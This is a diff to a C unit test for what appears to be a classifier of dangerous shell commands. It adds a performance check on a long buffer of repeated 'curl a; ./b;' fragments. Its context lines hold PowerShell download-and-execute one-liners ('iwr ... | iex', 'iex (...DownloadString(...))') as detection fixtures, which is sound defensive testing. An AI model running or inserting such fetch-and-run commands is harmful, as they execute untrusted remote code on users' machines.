@@ -610,6 +610,17 @@ running_what_the_network_brings_is_unknown(void **state)
     for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++) {
         expect(others[i], DANGER_NONE, NULL);
     }
+
+    /* However many there are: each is looked up in little time. */
+    SY_AUTO(buf_fini) struct buf many = {.max = 1U << 20};
+
+    for (int i = 0; i < 2000; i++) {
+        assert_int_equal(buf_add_str(&many, "curl a; ./b; "), SY_E_OK);
+    }
+    expect(buf_view(&many), DANGER_NONE, NULL);
+    assert_int_equal(buf_add_str(&many, "./a"), SY_E_OK);
+    expect(buf_view(&many), DANGER_UNKNOWN, "download.run");
+
     expect("pwsh -c 'iwr -useb get.x.y | iex'", DANGER_UNKNOWN, "download.run");
     expect("pwsh -c \"iex ((New-Object Net.WebClient).DownloadString('https://x.y'))\"",
            DANGER_UNKNOWN, "download.run");
